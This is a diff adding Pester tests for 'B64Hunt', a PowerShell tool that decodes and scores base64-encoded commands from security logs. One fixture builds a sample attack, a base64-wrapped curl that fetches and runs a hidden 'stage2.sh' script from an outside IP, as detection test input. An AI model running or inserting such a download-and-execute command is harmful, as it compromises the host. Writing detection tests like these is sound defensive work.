@@ -520,8 +520,9 @@ Describe 'Table headers are properties' {
         ($scores | Where-Object Alert -gt 0).DecodedCommand | Should -Be ($scores | Where-Object AlertScore -gt 0).DecodedCommand
         $scores[0].Sev | Should -Be $scores[0].SevScore
         $scores[0].Freq | Should -Be $scores[0].FreqScore
-        # The headers really are those of the default view.
-        ($scores | Select-Object -First 3 | Format-Table | Out-String -Width 200) | Should -BeLike '*Freq*Sev*Alert*Count*Hosts*'
+        # The headers really are those of the views (Freq, Sev and Alert in the Wide one).
+        ($scores | Select-Object -First 3 | Format-Table | Out-String -Width 200) | Should -BeLike '*Count*Hosts*'
+        ($scores | Select-Object -First 3 | Format-Table -View Wide | Out-String -Width 250) | Should -BeLike '*Freq*Sev*Alert*Count*Hosts*'
     }
 
     It 'filters Iocs by Private and CommandEvents by Count' {
@@ -590,5 +591,208 @@ Describe 'Connect-B64Hunt and Disconnect-B64Hunt (fake Log Analytics on 127.0.0.
         $probe.Start(); $port = $probe.LocalEndpoint.Port; $probe.Stop()
         Get-B64RelatedAlert -WorkspaceId $Ws -Endpoint "http://127.0.0.1:$port/" -Computer web1 -Last 1d -ErrorVariable err -ErrorAction SilentlyContinue
         $err[0].FullyQualifiedErrorId | Should -BeLike 'LogAnalyticsConnectionFailed,*'
+    }
+}
+
+Describe 'RelatedAlert.Severity is an ordered enum' {
+    BeforeAll {
+        $script:SeverityCsv = Join-Path $Work 'severities.csv'
+        @(
+            'TimeGenerated [UTC],AlertName,AlertSeverity,CompromisedEntity'
+            '2026-10-02T13:01:00.000Z,a-medium,Medium,web1'
+            '2026-10-02T13:02:00.000Z,b-low,low,web1'
+            '2026-10-02T13:03:00.000Z,c-info,Informational,web1'
+            '2026-10-02T13:04:00.000Z,d-high,High,web1'
+            '2026-10-02T13:05:00.000Z,e-critical,Critical,web1'
+        ) | Set-Content -LiteralPath $SeverityCsv
+    }
+
+    It 'sorts by severity, not as text, with an unknown one lowest' {
+        $alerts = Get-B64RelatedAlert -LiteralPath $SeverityCsv
+        ($alerts | Sort-Object Severity).AlertName | Should -Be @('e-critical', 'c-info', 'b-low', 'a-medium', 'd-high')
+        ($alerts | Sort-Object Severity -Descending)[0].AlertName | Should -Be 'd-high'
+        $alerts[0].Severity | Should -BeOfType ([B64Hunt.Model.AlertSeverity])
+    }
+
+    It 'filters with the names as strings, -eq and -ge' {
+        $alerts = Get-B64RelatedAlert -LiteralPath $SeverityCsv
+        (($alerts | Where-Object Severity -eq 'High').AlertName) | Should -Be 'd-high'
+        (($alerts | Where-Object Severity -ge 'Medium').AlertName) | Should -Be @('a-medium', 'd-high')
+    }
+
+    It 'keeps an unknown severity''s text, shows it, and warns UnknownAlertSeverity naming it when scored' {
+        $critical = Get-B64RelatedAlert -LiteralPath $SeverityCsv | Where-Object AlertName -eq 'e-critical'
+        $critical.Severity | Should -Be 'Unknown'
+        $critical.SeverityText | Should -Be 'Critical'
+        ($critical | Format-Table | Out-String -Width 120) | Should -BeLike '*Critical*e-critical*'
+        $null = Get-B64Command -CommandLine $Payload -Computer web1 -TimeGenerated '2026-10-02T13:00:00Z' | Measure-B64Score -Alert $critical -WarningVariable w -WarningAction SilentlyContinue
+        ($w | Where-Object { "$_" -like "*'Critical'*" }) | Should -Not -BeNullOrEmpty
+    }
+
+    It 'keeps the severity through Export-Clixml and Import-Clixml' {
+        $xml = Join-Path $Work 'alerts.clixml'
+        Get-B64RelatedAlert -LiteralPath $SeverityCsv | Export-Clixml -LiteralPath $xml
+        $back = Import-Clixml -LiteralPath $xml
+        ($back | Sort-Object { $_.Severity }).AlertName | Should -Be @('e-critical', 'c-info', 'b-low', 'a-medium', 'd-high')
+        $events = Get-B64Command -CommandLine $Payload -Computer web1 -TimeGenerated '2026-10-02T13:00:00Z'
+        $scored = $events | Measure-B64Score -Alert $back -WarningAction SilentlyContinue
+        $live = $events | Measure-B64Score -Alert (Get-B64RelatedAlert -LiteralPath $SeverityCsv) -WarningAction SilentlyContinue
+        $live.AlertScore | Should -BeGreaterThan 0
+        $scored.AlertScore | Should -Be $live.AlertScore
+    }
+}
+
+Describe 'Enums serialise as names in ConvertTo-Json' {
+    It 'writes TiResult Severity and Status by name, and they read back' {
+        $feed = Join-Path (Get-Module B64Hunt).ModuleBase 'data/sample/ti-feed.csv'
+        $r = Get-B64Command -Sample -ErrorAction SilentlyContinue | Find-B64Ioc | Invoke-B64TiLookup -LocalFeed $feed |
+            ForEach-Object TiResults | Where-Object Status -eq 'Ok' | Select-Object -First 1
+        $r | Should -Not -BeNullOrEmpty
+        $json = $r | ConvertTo-Json
+        $json | Should -Match ('"Severity":\s*"' + $r.Severity + '"')
+        $json | Should -Match '"Status":\s*"Ok"'
+        $back = $json | ConvertFrom-Json
+        [B64Hunt.Model.TiSeverity]$back.Severity | Should -Be $r.Severity
+        # Still ordered for filtering.
+        ([B64Hunt.Model.TiSeverity]'High' -gt [B64Hunt.Model.TiSeverity]'Low') | Should -BeTrue
+    }
+
+    It 'writes RelatedAlert Severity and provider KeySource by name, nested in a CommandScore too' {
+        $alerts = Get-B64RelatedAlert -Sample
+        ($alerts[0] | ConvertTo-Json) | Should -Match ('"Severity":\s*"' + $alerts[0].Severity + '"')
+        $score = Get-B64Command -Sample -ErrorAction SilentlyContinue | Measure-B64Score -Alert $alerts | Where-Object { $_.Alerts.Count } | Select-Object -First 1
+        ($score | ConvertTo-Json -Depth 3) | Should -Match '"Severity":\s*"(High|Medium|Low|Informational)"'
+        ((Get-B64TiProvider | Select-Object -First 1) | ConvertTo-Json) | Should -Match '"KeySource":\s*"[A-Za-z]+"'
+    }
+}
+
+Describe 'Times travel as ISO 8601 UTC' {
+    BeforeAll {
+        $script:Exact = [datetime]::SpecifyKind([datetime]'2026-10-02T13:01:12.345', 'Utc')
+        $script:TimedEvents = Get-B64Command -CommandLine $Payload -Computer web1 -TimeGenerated '2026-10-02T13:01:12.345Z'
+        $script:TimedAlertCsv = Join-Path $Work 'timed-alerts.csv'
+        @(
+            'TimeGenerated,AlertName,AlertSeverity,CompromisedEntity,StartTime,EndTime'
+            '2026-10-02T13:05:01.250Z,timed,High,web1,2026-10-02T13:04:00.125Z,2026-10-02T13:04:30.500Z'
+        ) | Set-Content -LiteralPath $TimedAlertCsv
+    }
+
+    It 'shows times in the default views as UTC with Z' {
+        ($TimedEvents | Format-Table | Out-String -Width 120) | Should -BeLike '*2026-10-02 13:01:12Z*'
+        ($TimedEvents | Format-List | Out-String -Width 120) | Should -BeLike '*TimeGenerated*: 2026-10-02 13:01:12Z*'
+        $alert = Get-B64RelatedAlert -LiteralPath $TimedAlertCsv
+        ($alert | Format-Table | Out-String -Width 120) | Should -BeLike '*2026-10-02 13:05:01Z*'
+        ($alert | Format-List | Out-String -Width 120) | Should -BeLike '*StartTime*: 2026-10-02 13:04:00Z*'
+        $score = $TimedEvents | Measure-B64Score
+        ($score | Format-List | Out-String -Width 120) | Should -BeLike '*FirstSeen*: 2026-10-02 13:01:12Z*'
+    }
+
+    It 'writes ISO 8601 UTC times with milliseconds in a plain Export-Csv of events, scores and alerts, whatever the culture' {
+        $old = [cultureinfo]::CurrentCulture
+        try {
+            [cultureinfo]::CurrentCulture = [cultureinfo]'de-DE'
+            $e = Join-Path $Work 'timed-events.csv'; $s = Join-Path $Work 'timed-scores.csv'; $a = Join-Path $Work 'timed-alerts-out.csv'
+            $TimedEvents | Export-Csv -LiteralPath $e
+            $TimedEvents | Measure-B64Score | Export-Csv -LiteralPath $s
+            Get-B64RelatedAlert -LiteralPath $TimedAlertCsv | Export-Csv -LiteralPath $a
+        } finally { [cultureinfo]::CurrentCulture = $old }
+        (Import-Csv -LiteralPath $e).TimeGeneratedUtc | Should -Be '2026-10-02T13:01:12.345Z'
+        $scoreRow = Import-Csv -LiteralPath $s
+        $scoreRow.FirstSeenUtc | Should -Be '2026-10-02T13:01:12.345Z'
+        $scoreRow.LastSeenUtc | Should -Be '2026-10-02T13:01:12.345Z'
+        $alertRow = Import-Csv -LiteralPath $a
+        $alertRow.TimeGeneratedUtc | Should -Be '2026-10-02T13:05:01.250Z'
+        $alertRow.StartTimeUtc | Should -Be '2026-10-02T13:04:00.125Z'
+        $alertRow.EndTimeUtc | Should -Be '2026-10-02T13:04:30.500Z'
+    }
+
+    It 'reads the exported files back to the exact times (Get-B64Command -Path, Get-B64RelatedAlert -Path)' {
+        $e = Join-Path $Work 'timed-events.csv'; $a = Join-Path $Work 'timed-alerts-out.csv'
+        $events = Get-B64Command -LiteralPath $e
+        $events.TimeGenerated | Should -Be $Exact
+        $events.DecodedCommand | Should -Be $TimedEvents.DecodedCommand
+        $events.Computer | Should -Be 'web1'
+        $alert = Get-B64RelatedAlert -LiteralPath $a
+        $alert.TimeGenerated | Should -Be ([datetime]::SpecifyKind([datetime]'2026-10-02T13:05:01.250', 'Utc'))
+        $alert.EndTime | Should -Be ([datetime]::SpecifyKind([datetime]'2026-10-02T13:04:30.500', 'Utc'))
+        $alert.Severity | Should -Be 'High'
+    }
+
+    It 'keeps the DateTime properties DateTimes for sorting and filtering' {
+        $TimedEvents[0].TimeGenerated | Should -BeOfType ([datetime])
+        @($TimedEvents | Where-Object TimeGenerated -gt ([datetime]'2026-01-01')).Count | Should -Be @($TimedEvents).Count
+    }
+}
+
+Describe 'Default views at 80 columns' {
+    BeforeAll {
+        $script:Long = 'curl -s http://203.0.113.7/stage2.sh -o /tmp/.cache/s.sh && chmod +x /tmp/.cache/s.sh && /tmp/.cache/s.sh'
+        $b64 = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($Long))
+        $script:LongEvent = Get-B64Command -CommandLine "echo $b64 | base64 -d | sh" -Computer 'aks-nodepool1-12345678-vmss000003' -TimeGenerated '2026-10-02T13:01:12Z' -Account root | Add-B64Category
+        function script:Shown([string] $Text) {
+            # The decoded-command cell of the first row: from the header's DecodedCommand column to the line's end.
+            $lines = $Text -split "`r?`n" | Where-Object { $_.Trim() }
+            $at = $lines[0].IndexOf('DecodedCommand')
+            $lines[2].Substring($at).TrimEnd('…').Length
+        }
+    }
+
+    It 'leaves DecodedCommand at least 35 columns in the event and score tables at 80' {
+        $t = $LongEvent | Format-Table | Out-String -Width 80
+        ($t -split "`r?`n" | ForEach-Object Length | Measure-Object -Maximum).Maximum | Should -BeLessOrEqual 80
+        Shown $t | Should -BeGreaterOrEqual 35
+        $s = $LongEvent | Measure-B64Score | Format-Table | Out-String -Width 80
+        Shown $s | Should -BeGreaterOrEqual 35
+    }
+
+    It 'lists DecodedCommand before CommandLine and EncodedText (the base64 blobs)' {
+        $list = ($LongEvent | Format-List | Out-String -Width 200) -split "`r?`n"
+        $at = { param($label) [array]::FindIndex([string[]]$list, [Predicate[string]] { param($l) $l -match "^$label\s+:" }) }
+        & $at 'DecodedCommand' | Should -BeLessThan (& $at 'CommandLine')
+        & $at 'DecodedCommand' | Should -BeLessThan (& $at 'EncodedText')
+        & $at 'DecodedCommand' | Should -BeLessThan (& $at 'Categories')
+        $score = ($LongEvent | Measure-B64Score | Format-List | Out-String -Width 200) -split "`r?`n"
+        $list = $score
+        & $at 'DecodedCommand' | Should -BeLessThan (& $at 'FreqScore')
+    }
+
+    It 'has a Wide event view with Account and Categories' {
+        $w = $LongEvent | Format-Table -View Wide | Out-String -Width 200
+        $w | Should -BeLike '*Account*Categories*DecodedCommand*'
+        $w | Should -BeLike '*root*Network connections/Downloading*curl -s*'
+    }
+}
+
+Describe 'Show-B64Timeline -Verbose states the alert rule its input was scored with' {
+    BeforeAll {
+        $script:RuleEvents = Get-B64Command -CommandLine $Payload -Computer web1 -TimeGenerated '2026-10-02T13:00:00Z'
+        function script:VerboseOf([scriptblock] $Run) { @(& $Run 4>&1 | Where-Object { $_ -is [System.Management.Automation.VerboseRecord] } | ForEach-Object Message) }
+    }
+
+    It 'records the model and alert window on each CommandScore' {
+        $s = $RuleEvents | Measure-B64Score -AlertWindow 30m
+        $s.Model | Should -Be 'Default'
+        $s.AlertWindow | Should -Be ([timespan]::FromMinutes(30))
+        ($RuleEvents | Measure-B64Score -Model Notebook).AlertWindow | Should -BeNullOrEmpty
+        ($s | Format-List | Out-String -Width 120) | Should -Match 'AlertWindow\s+: ±00:30:00'
+    }
+
+    It 'says the rule of piped scores, not the rule it would have used itself' {
+        $scores = $RuleEvents | Measure-B64Score -AlertWindow 30m
+        $v = VerboseOf { $scores | Show-B64Timeline -NoColor -Verbose | Out-Null }
+        $v | Should -Contain "Piped scores: Default model: alerts count within ±00:30:00 of an execution on the alert's host, weighted by closeness."
+        ($v | Where-Object { $_ -like 'Piped events:*' }) | Should -BeNullOrEmpty
+        ($v | Where-Object { $_ -like '*±01:00:00*' }) | Should -BeNullOrEmpty
+        $nb = $RuleEvents | Measure-B64Score -Model Notebook
+        (VerboseOf { $nb | Show-B64Timeline -NoColor -Verbose | Out-Null }) | Should -Contain "Piped scores: Notebook model: every related alert of a command's host counts (the notebook's rule; -AlertWindow narrows it)."
+    }
+
+    It 'says the rule it scores piped events with, and keeps it through Export-Clixml' {
+        (VerboseOf { $RuleEvents | Show-B64Timeline -NoColor -AlertWindow 2h -Verbose | Out-Null }) |
+            Should -Contain "Piped events: Default model: alerts count within ±02:00:00 of an execution on the alert's host, weighted by closeness."
+        $xml = Join-Path $Work 'rule-scores.clixml'
+        $RuleEvents | Measure-B64Score -AlertWindow 45m | Export-Clixml -LiteralPath $xml
+        (VerboseOf { Import-Clixml -LiteralPath $xml | Show-B64Timeline -NoColor -Verbose | Out-Null }) |
+            Should -Contain "Piped scores: Default model: alerts count within ±00:45:00 of an execution on the alert's host, weighted by closeness."
     }
 }
